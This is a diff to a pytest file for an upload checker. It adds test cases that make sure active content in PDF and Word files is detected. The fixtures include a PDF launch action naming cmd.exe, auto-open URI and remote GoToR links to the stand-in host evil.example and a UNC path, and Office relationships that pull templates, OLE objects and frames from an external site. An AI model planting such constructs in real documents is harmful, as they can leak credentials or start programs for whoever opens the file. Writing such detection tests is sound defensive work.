@@ -45,6 +45,16 @@ ACTIVE = {
     "a form that sends": uploads.acting_pdf(catalog=b"/OpenAction<</S/SubmitForm/F(https://evil.example)>>"),
     "a file inside": uploads.acting_pdf(catalog=b"/Names<</EmbeddedFiles 10 0 R>>", o10=b"<</Names[]>>"),
     "a named script": uploads.acting_pdf(catalog=b"/Names<</JavaScript 10 0 R>>", o10=b"<</Names[]>>"),
+    "a program whose name stands elsewhere": uploads.acting_pdf(
+        catalog=b"/OpenAction 10 0 R", o10=b"<</S 11 0 R/F(cmd.exe)>>", o11=b"/Launch"
+    ),
+    "a web page when it is opened": uploads.acting_pdf(
+        catalog=b"/OpenAction<</S/URI/URI(http://evil.example/)>>"
+    ),
+    "another file on another host": uploads.acting_pdf(
+        page=b"/Annots[10 0 R]",
+        o10=rb"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(\\\\evil\\x.pdf)/D[0/Fit]>>>>",
+    ),
     "a film": uploads.acting_pdf(
         page=b"/Annots[10 0 R]", o10=b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<<>>>>"
     ),
@@ -65,6 +75,29 @@ def test_a_harmless_pdf_is_taken() -> None:
 @pytest.mark.parametrize("content", ACTIVE.values(), ids=ACTIVE)
 def test_active_content_is_found_wherever_it_hangs(content: bytes) -> None:
     assert problem_of(content, "a.pdf") is FileProblem.ACTIVE_CONTENT
+
+
+RELATIONS = (
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
+    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="https://evil.example/x" '
+    'TargetMode="External"/></Relationships>'
+)
+
+
+@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame"])
+def test_an_office_file_that_fetches_parts_from_elsewhere_is_active(kind: str) -> None:
+    parts = {"word/_rels/document.xml.rels": RELATIONS.format(kind=kind).encode()}
+    assert problem_of(uploads.office(parts=parts), "a.docx") is FileProblem.ACTIVE_CONTENT
+
+
+def test_a_web_link_in_an_office_file_is_no_harm() -> None:
+    parts = {"word/_rels/document.xml.rels": RELATIONS.format(kind="hyperlink").encode()}
+    assert judge(uploads.office(parts=parts), "a.docx").kind is FileKind.DOCX
+
+
+def test_a_web_link_in_a_pdf_is_no_harm() -> None:
+    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://example.jp/)>>>>"
+    assert judge(uploads.acting_pdf(page=b"/Annots[10 0 R]", o10=link), "a.pdf").kind is FileKind.PDF
 
 
 def test_what_the_process_apart_finds_is_told_as_it_is() -> None:
